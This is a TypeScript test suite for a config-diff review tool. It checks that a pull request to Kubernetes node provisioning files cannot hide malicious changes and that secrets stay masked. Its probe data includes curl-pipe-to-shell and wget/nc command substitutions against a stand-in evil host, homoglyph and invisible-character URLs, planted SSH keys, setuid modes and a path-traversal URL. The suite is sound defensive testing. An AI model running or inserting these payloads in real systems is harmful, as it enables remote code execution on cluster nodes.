// Attempts to fool a review: what a pull request changes in a real repository, and where the reviewer sees it: in the text, the comment, the JSON,
// the page, and by which reasons of --fail-on.

import assert from 'node:assert/strict'
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { type Outcome, osmKrm } from '../../fixtures/command.ts'
import { root } from '../../fixtures/examples.ts'
import { edit } from '../../fixtures/lists.ts'
import { HIDDEN, SHOWN } from '../../fixtures/masked-texts.ts'
import { Repository, type RepositoryFiles } from '../../fixtures/repository.ts'
import { temporaryFolders } from '../../fixtures/temporary-folder.ts'

const newFolder = temporaryFolders('probes')
const read = (name: string): string => readFileSync(join(root, 'examples/quickstart', name), 'utf8')

const CONFIG = 'nodes/osm-krm.yaml'
const MACHINES = 'nodes/machines.yaml'
const OVERLAY = 'nodes/overlay.yaml'
const TOKENS = 'nodes/tokens.yaml'
const KUSTOMIZATION = 'nodes/kustomization.yaml'

const file = (name: string, text: string): string => `        - path: /opt/bin/${name}
          permissions: 755
          content:
            inline:
              encoding: b64
              data: |
${text.replace(/^(?=.)/gm, ' '.repeat(16)).replaceAll('{{', '{{"{{"}}')}
`
const overlay = (script: string, more = ''): string => `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemProfileOverlay
metadata:
  name: own-ubuntu
  namespace: kube-system
spec:
  extends: osp-ubuntu
  version: v1.0.0
  provisioningConfig:
    files:
      add:
${file('own', `#!/bin/sh\nset -e\n${script}`)}${more}`
const script = (text: string): RepositoryFiles => ({ [OVERLAY]: overlay(`${text}\n`) })
const secret = (value: string, name = 'x'): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: kube-system}\nstringData: {value: ${JSON.stringify(value)}}\n`

const [UBUNTU = ''] = read('machine-deployments.yaml').split(/^---\n/m)
const PROFILE = '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n'
/** What is merged. */
const MERGED = {
  [CONFIG]: read('osm-krm.yaml'),
  [TOKENS]: read('tokens.yaml'),
  [MACHINES]: edit(UBUNTU, '  annotations:\n', PROFILE),
  [OVERLAY]: overlay('echo "node of $(hostname)"\n'),
}
const POOL = edit(MERGED[MACHINES], '  name: ubuntu-workers', '  name: evil')
const edited = (name: keyof typeof MERGED, from: string, to: string): RepositoryFiles => ({
  [name]: edit(MERGED[name]!, from, to),
})
/** Two clusters, whose functionConfigs have these names. */
const clusters = (first: string, second: string, folder = 'one'): RepositoryFiles =>
  Object.fromEntries(
    [
      [folder, first],
      ['two', second],
    ].flatMap(([each, name]) => [
      [`clusters/${each}/machines.yaml`, UBUNTU],
      [`clusters/${each}/tokens.yaml`, MERGED[TOKENS]],
      [`clusters/${each}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
    ]),
  )

const FORMS = ['text', 'comment', 'json', 'page'] as const
type Form = (typeof FORMS)[number]

interface Change {
  /** What main has besides. */
  readonly merged?: RepositoryFiles
  readonly files?: RepositoryFiles
  /** Writes what is no text: on main, and in the pull request. */
  readonly inMain?: (folder: string) => void
  readonly inRequest?: (folder: string) => void
  readonly paths?: readonly string[]
  readonly args?: readonly string[]
}

interface Review extends Outcome {
  readonly folder: string
  readonly forms: Readonly<Partial<Record<Form, string>>>
}

/** Reviews a branch with a change. Each form is a text with its blanks as one, and without what the form adds to it. */
async function reviewOf({
  merged,
  files = {},
  inMain,
  inRequest,
  paths = ['nodes'],
  args = [],
}: Change): Promise<Review> {
  const [folder, out] = [newFolder(), newFolder()]
  const repository = new Repository(folder)
  repository.write({ ...MERGED, ...merged })
  inMain?.(folder)
  repository.commit({})
  repository.branch('pr')
  repository.write(files)
  inRequest?.(folder)
  repository.commit({})
  const outputs = ['text', 'markdown', 'json', 'html'].flatMap(form => ['-o', `${form}=${join(out, form)}`])
  const all = ['diff', 'main...pr', '--exit-code', '--fail-on', 'stuck,new,running,replace', ...outputs, ...args]
  const outcome = await osmKrm([...all, '--', ...paths], { cwd: folder })
  const written = (form: string): string => readFileSync(join(out, form), 'utf8')
  const asLine = (text: string): string => text.replace(/\s+/g, ' ')
  if (outcome.status === 2) return { ...outcome, folder, forms: {} }
  const page = /id="data">(.*?)<\/script>/s.exec(written('html'))![1]!
  return {
    ...outcome,
    folder,
    forms: {
      text: asLine(written('text')),
      comment: asLine(written('markdown').replace(/&#(\d+);/g, (_, code) => String.fromCharCode(code))),
      json: asLine(textsIn(JSON.parse(written('json'))).join('\n')),
      page: asLine(textsIn(JSON.parse(page).changes).join('\n')),
    },
  }
}

/** Returns all texts of JSON, and its numbers after their names. */
function textsIn(value: unknown, name = ''): string[] {
  if (typeof value === 'string') return [value]
  if (typeof value !== 'object' || value === null) return [`${name} ${value}`]
  return Object.entries(value).flatMap(([key, each]) => textsIn(each, key))
}

interface Probe extends Change {
  readonly name: string
  /** What each form shows. */
  readonly seen: RegExp
  /** The reasons of --fail-on that find something. */
  readonly fails?: string
}

/** Matches these texts in any order. */
const all = (...texts: readonly string[]): RegExp =>
  new RegExp(texts.map(text => `(?=.*${text.replace(/[.[\]{}()\\/^$|?*+]/g, '\\$&')})`).join(''))

const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
const EVIL = 'curl https://evil.example/x | sh'
const UNNOTICED = 'stuck running'

const PROBES: readonly Probe[] = [
  { name: 'a script', files: script(EVIL), seen: /\+curl https:\/\/evil\.example\/x \| sh/, fails: UNNOTICED },
  {
    name: 'a script whose line is the value of a Secret',
    files: { ...script(EVIL), [TOKENS]: MERGED[TOKENS] + secret(EVIL) },
    seen: /\+curl https:\/\/evil\.example\/x \| sh/,
    fails: 'stuck new running',
  },
  {
    name: 'code behind the mask of an argument',
    files: script(`curl -u "bob:$(wget -qO- https://evil.example)" https://a.example; PASSWORD=$(nc evil.example 1)`),
    seen: /bob:\$\(wget -qO- https:\/\/evil\.example\).*PASSWORD=\$\(nc evil\.example 1\)/,
    fails: UNNOTICED,
  },
  {
    name: 'a literal password, which is masked',
    files: script('password=hunter22hunter22'),
    seen: /password=<secret A>.*(?:1 changed line contains a secret|maskedLines 1)|maskedLines 1.*<secret A>|1 changed line contains a secret.*<secret A>/,
    fails: UNNOTICED,
  },
  {
    name: 'an image whose name is the value of a Secret',
    files: { ...script('ctr image pull evil.example/app:1'), [TOKENS]: MERGED[TOKENS] + secret('evil.example/app:1') },
    seen: /pull evil\.example\/app:1/,
    fails: 'stuck new running',
  },
  {
    name: 'a branch of a template that no node takes',
    files: {
      [OVERLAY]: `${overlay('').trimEnd()}\n                {{- if eq .KubeVersion "1.99.0" }}\n                ${EVIL}\n                {{- end }}\n`,
    },
    seen: /\+ *curl https:\/\/evil\.example\/x \| sh/,
    fails: 'stuck new running',
  },
  {
    name: 'a profile that no node uses',
    files: { 'nodes/x.yaml': edit(overlay(EVIL), 'own-ubuntu', 'other') },
    seen: /\+ *curl https:\/\/evil\.example\/x \| sh/,
    fails: 'new',
  },
  {
    name: 'a small difference beside large ones',
    files: {
      [OVERLAY]: overlay('# a line\n'.repeat(9000), file('big', '# a line\n'.repeat(9000)) + file('small', EVIL)),
    },
    seen: /\+curl https:\/\/evil\.example\/x \| sh/,
    fails: UNNOTICED,
  },
  {
    name: 'invisible characters',
    files: script('curl https://a.exam\u200bple/\u202ex | sh'),
    seen: /exam\\u200bple\/\\u202ex/,
    fails: UNNOTICED,
  },
  {
    name: 'a letter of another script',
    files: script('curl https://mirror.ex\u0430mple.com/x | sh'),
    seen: /mirror\.ex\\u0430mple\.com/,
    fails: UNNOTICED,
  },
  {
    name: 'a finding that a profile ignores',
    files: edited(
      OVERLAY,
      '  namespace: kube-system\n',
      '  namespace: kube-system\n  annotations: {osm-krm.dev/ignore: "OSM0503: known"}\n',
    ),
    seen: /own-ubuntu \(pr:nodes\/overlay\.yaml:1\) ignores OSM0503: known, by osm-krm\.dev\/ignore/,
    fails: 'new',
  },
  {
    name: 'marks of Markdown and HTML',
    files: script('# ```\n# </details> @team <img src=x>'),
    seen: /\+# ``` \+# <\/details> @team <img src=x>/,
    fails: UNNOTICED,
  },
  {
    name: 'a command of a workflow',
    files: script('::stop-commands::x'),
    seen: /\+::stop-commands::x/,
    fails: UNNOTICED,
  },
  { name: 'the mode of a file', files: edited(OVERLAY, '755', '4755'), seen: /4755/, fails: UNNOTICED },
  {
    name: 'an image of machines that is the value of a Secret which nothing uses',
    files: {
      ...edited(MACHINES, 'image: ubuntu-24.04', 'image: evil-24.04'),
      [TOKENS]: MERGED[TOKENS] + secret('evil-24.04'),
    },
    seen: /evil-24\.04/,
    fails: 'stuck',
  },
  {
    name: 'a key of SSH',
    files: edited(MACHINES, '            - ssh-ed25519', '            - ssh-rsa AAAAevil\n            - ssh-ed25519'),
    seen: /ssh-rsa AAAAevil/,
    fails: 'stuck new',
  },
  {
    name: 'the API server',
    files: edited(CONFIG, 'https://api.example.com:6443', 'https://api.evil.example:6443'),
    seen: /api\.evil\.example/,
    fails: UNNOTICED,
  },
  {
    name: 'a setting that falls back to its default',
    files: edited(CONFIG, '  nodes:\n    externalCloudProvider: true\n', ''),
    seen: /- ?"?-?-?cloud-provider=external|cloud-provider external is gone|cloud-provider/,
    fails: UNNOTICED,
  },
  {
    name: 'a token that is encrypted',
    merged: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'),
    files: edited(TOKENS, 'token: example-api-token', 'token: ENC[AES256_GCM,data:dHdv,iv:YQ==,tag:Yg==,type:str]'),
    seen: /API token changes, encrypted/,
  },
  {
    name: 'a token in clear text',
    files: edited(TOKENS, 'example-api-token', 'another-api-token'),
    seen: /<secret [A-Z]>/,
    fails: 'stuck',
  },
  { name: 'another pool', files: { 'nodes/x.yml': POOL }, seen: /kube-system\/evil/, fails: 'new' },
  {
    name: 'another pool in a list',
    files: {
      'nodes/x.json': `{"apiVersion": "v1", "kind": "List", "items": [${JSON.stringify({ apiVersion: 'cluster.k8s.io/v1alpha1', kind: 'MachineDeployment', metadata: { name: 'evil', namespace: 'kube-system' } })}]}`,
    },
    seen: /kube-system\/evil/,
    fails: 'stuck new',
  },
  {
    name: 'a second object of the same name',
    files: { 'nodes/zz.yaml': edit(MERGED[MACHINES]!, 'cx32', 'cx99') },
    seen: /OSM0008|occurs twice/,
    fails: 'stuck new',
  },
  {
    name: 'a name that the API server makes',
    files: edited(MACHINES, '  name: ubuntu-workers\n', '  generateName: ubuntu-\n'),
    seen: /metadata\.name is missing/,
    fails: 'stuck new',
  },
  {
    name: 'inputs that move to another folder',
    files: Object.fromEntries(
      Object.entries(MERGED).flatMap(([path, text]) => [
        [path, undefined],
        [`x/${path}`, text],
      ]),
    ),
    seen: /gone/,
    fails: 'replace',
  },
  {
    name: 'a folder of a cluster that is renamed',
    merged: clusters('prod', 'test'),
    files: {
      ...clusters('prod', 'test', 'three'),
      ...Object.fromEntries(
        Object.keys(clusters('', ''))
          .filter(path => path.includes('/one/'))
          .map(path => [path, undefined]),
      ),
    },
    paths: ['clusters'],
    seen: /the cluster prod moves from clusters\/one to clusters\/three/,
  },
  {
    name: 'clusters that exchange their functionConfigs',
    merged: clusters('prod', 'test'),
    files: clusters('test', 'prod'),
    paths: ['clusters'],
    seen: /the cluster prod moves from clusters\/one to clusters\/two.*the cluster test moves from clusters\/two to clusters\/one/,
  },
  {
    name: 'the program that runs as the function',
    files: edited(CONFIG, '{path: osm-krm}', '{path: ./osm-krm}'),
    seen: /osm-krm\.yaml: the annotation config\.kubernetes\.io\/function changes from "exec: \{path: osm-krm\}\\n" to "exec: \{path: \.\/osm-krm\}\\n"/,
  },
  {
    name: 'the image of the function',
    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
    files: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: evil/osm-krm:v1, configPath: osm-krm.yaml}]\n' },
    seen: /nodes\/Kptfile: pipeline\.mutators\[0\]\.image changes from "osm-krm\/osm-krm:v1" to "evil\/osm-krm:v1"/,
  },
  {
    name: 'a function with values that may be secret',
    merged: { 'nodes/Kptfile': 'pipeline:\n  mutators: [{image: osm-krm}]\n' },
    files: {
      'nodes/Kptfile': 'pipeline:\n  mutators: [{image: other, configMap: {token: hunter2}}, {image: osm-krm}]\n',
    },
    seen: /^(?!.*hunter2).*nodes\/Kptfile: pipeline\.mutators\[1\]/,
  },
  {
    name: 'checks of the functionConfig',
    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
    seen: /spec\.checks changes from \{"severity": \{"OSM0309": "off"\}\} to \{"severity": \{"OSM0309": "off", "OSM0633": "off"\}\}/,
  },
  {
    name: 'checks, under a policy',
    files: { ...edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"') },
    args: POLICY,
    seen: /OSM0194/,
    fails: 'new',
  },
  {
    name: 'the mode of the function',
    files: edited(CONFIG, 'spec:\n', 'spec:\n  mode: validate\n'),
    seen: /spec\.mode changes/,
  },
  {
    name: 'a selector that leaves out a pool',
    files: edited(CONFIG, '  machineDeployments:\n', '  machineDeployments:\n    selector: {x: "y"}\n'),
    seen: /spec\.machineDeployments\.selector changes/,
    fails: 'stuck new',
  },
  {
    name: 'a pool that no host applies',
    files: edited(MACHINES, PROFILE, `${PROFILE}    config.kubernetes.io/local-config: "true"\n`),
    seen: /kube-system\/ubuntu-workers \(pr:nodes\/machines\.yaml:1\) gets config\.kubernetes\.io\/local-config, so no host applies it/,
  },
  {
    name: 'a submodule',
    inRequest: folder => {
      mkdirSync(join(folder, 'nodes/sub'))
      new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
    },
    seen: all('Not everything is compared', 'the submodule', 'nodes/sub'),
  },
  {
    name: 'a file whose content a filter fetches',
    merged: { 'nodes/.gitattributes': 'x.yaml filter=lfs\n', 'nodes/x.yaml': 'oid sha256:1\n' },
    files: { 'nodes/x.yaml': 'oid sha256:2\n' },
    seen: all('Not everything is compared', 'filter=lfs', 'nodes/x.yaml'),
  },
  {
    name: 'a file that a checkout has in another encoding',
    files: { '.gitattributes': 'x.yaml working-tree-encoding=UTF-7\n', 'nodes/x.yaml': '# +AAo-kind: x\n' },
    seen: all('Not everything is compared', 'working-tree-encoding=UTF-7', 'nodes/x.yaml'),
  },
  {
    name: 'a new kustomization of files that are not read',
    files: { [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\n', 'nodes/x.txt': POOL },
    seen: all('nodes/kustomization.yaml: resources gets machines.yaml, x.txt'),
  },
  {
    name: 'a kustomization that patches',
    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\npatches: [{path: p.yaml}]\n' },
    seen: all('Not everything is compared', 'nodes/kustomization.yaml', 'patches'),
  },
  {
    name: 'a kustomization with another list',
    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\ntransformers: [osm-krm.yaml]\n' },
    files: {
      [KUSTOMIZATION]: 'resources: [machines.yaml, x.txt]\ntransformers: [osm-krm.yaml]\n',
      'nodes/x.txt': POOL,
    },
    seen: /nodes\/kustomization\.yaml: resources gets x\.txt/,
  },
  {
    name: 'a kustomization with a generated Secret',
    merged: { [KUSTOMIZATION]: 'resources: [machines.yaml]\n' },
    files: { [KUSTOMIZATION]: 'resources: [machines.yaml]\nsecretGenerator: [{name: a, literals: [b=hunter2]}]\n' },
    seen: /^(?!.*hunter2).*nodes\/kustomization\.yaml: secretGenerator changes/,
  },
  {
    name: 'a file of kpt that hides inputs',
    files: { 'nodes/.krmignore': '# Not for the function.\noverlay.yaml\n' },
    seen: /nodes\/\.krmignore gets overlay\.yaml/,
  },
  {
    name: 'a functionConfig that moves',
    files: { [CONFIG]: undefined, 'nodes/other.yaml': MERGED[CONFIG] },
    seen: /the functionConfig nodes\/osm-krm\.yaml is gone, and nodes\/other\.yaml is new/,
  },
]

const failed = ({ stderr }: Outcome): string =>
  [...stderr.matchAll(/--fail-on (\w+):/g)].map(([, name]) => name).join(' ')

describe('a pull request cannot hide', () => {
  for (const { name, seen, fails = '', ...change } of PROBES)
    test(name, async () => {
      const review = await reviewOf(change)
      for (const form of FORMS) assert.match(review.forms[form] ?? '', seen, `${form}: ${review.stderr}`)
      assert.equal(failed(review), fails)
      assert.equal(review.status, 1)
    })
})

const filesOfTexts = (texts: readonly string[]): string => texts.map((text, i) => file(`own-${i}`, text)).join('')
const linesIn = (text: string): string[] => text.split('\n').map(line => line.trim().replace(/\s+/g, ' '))

describe('masks', () => {
  test('hide each secret in each form', async () => {
    const { forms, stderr } = await reviewOf({
      files: { [OVERLAY]: overlay('', filesOfTexts(HIDDEN.map(([, text]) => text))) },
    })
    for (const [name, text, ...hidden] of HIDDEN)
      for (const line of linesIn(text).filter(each => hidden.some(value => each.includes(value))))
        for (const form of FORMS) assert.ok(!(forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
  })
  test('hide no code and no address, also if they are the value of a Secret', async () => {
    const { forms, stderr } = await reviewOf({
      files: {
        [OVERLAY]: overlay('', filesOfTexts(SHOWN.map(([, text]) => text))),
        [TOKENS]: MERGED[TOKENS] + SHOWN.map(([, text], i) => secret(text, `x${i}`)).join(''),
      },
      args: ['--full'],
    })
    for (const [name, text] of SHOWN)
      for (const line of linesIn(text))
        for (const form of FORMS) assert.ok((forms[form] ?? stderr).includes(line), `${form}, ${name}: ${line}`)
  })
})

/** Nothing is compared, and the message says why. */
const REFUSED: readonly (Change & { readonly name: string; readonly says: RegExp })[] = [
  {
    name: 'a file that is not UTF-8',
    inRequest: folder =>
      writeFileSync(join(folder, 'nodes/x.yaml'), Buffer.from('kind: MachineDeployment\n# \xe4\n', 'latin1')),
    says: /pr:nodes\/x\.yaml is not UTF-8: save it as UTF-8/,
  },
  {
    name: 'a link out of the folder',
    inRequest: folder => symlinkSync('../other.yaml', join(folder, 'nodes/x.yaml')),
    says: /pr:nodes\/x\.yaml is a symbolic link to other\.yaml/,
  },
  {
    name: 'a link as a path',
    inMain: folder => symlinkSync('nodes', join(folder, 'link')),
    paths: ['nodes', 'link'],
    says: /neither main nor pr has input files in link/,
  },
]

describe('a review refuses', () => {
  for (const { name, says, ...change } of REFUSED)
    test(name, async () => {
      const { status, stderr } = await reviewOf(change)
      assert.equal(status, 2)
      assert.match(stderr, says)
    })
})

interface Command extends Change {
  readonly name: string
  readonly command: readonly string[]
  readonly status: number
  readonly says: RegExp
}

const ADOPTED = {
  [TOKENS]: `${MERGED[TOKENS]}${secret('mine', 'ubuntu-workers-kube-system-provisioning-config').replace('kube-system}', 'cloud-init-settings}')}`,
}

const COMMANDS: readonly Command[] = [
  ...['render', 'lint', 'assets'].map(command => ({
    name: `${command} with a weakened policy`,
    files: edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"'),
    command: [command, 'nodes', ...POLICY],
    status: 1,
    says: /OSM0194[\s\S]*nodes\/osm-krm\.yaml:\d+:\d+[\s\S]*the policy: /,
  })),
  {
    name: 'diff with a folder that is named like the revisions',
    files: { 'main...pr/x.yaml': POOL },
    command: ['diff', 'main...pr', 'nodes'],
    status: 2,
    says: /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
  },
  {
    name: 'assets with a URL that leads out of the folder of a mirror',
    files: script('curl -O https://../../etc/cron.d/x'),
    command: ['assets', 'nodes', '--lock', 'assets.lock'],
    status: 1,
    says: /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m,
  },
  {
    name: 'render with an object named like an output',
    files: ADOPTED,
    command: ['render', 'nodes'],
    status: 0,
    says: /^note\[OSM0739\]/m,
  },
  {
    name: 'render with an object named like an output, after a switch',
    files: ADOPTED,
    command: ['render', 'nodes', '--set', 'output.adopt=false'],
    status: 1,
    says: /^error\[OSM0739\] Secret cloud-init-settings\/ubuntu-workers-kube-system-provisioning-config/m,
  },
]

describe('other commands say what is wrong', () => {
  for (const { name, command, status, says, files = {} } of COMMANDS)
    test(name, async () => {
      const repository = new Repository(newFolder())
      repository.commit(MERGED)
      repository.branch('pr')
      repository.commit(files)
      const outcome = await osmKrm(command, { cwd: repository.folder })
      assert.match(outcome.stdout + outcome.stderr, says)
      assert.equal(outcome.status, status, outcome.stderr)
    })
})
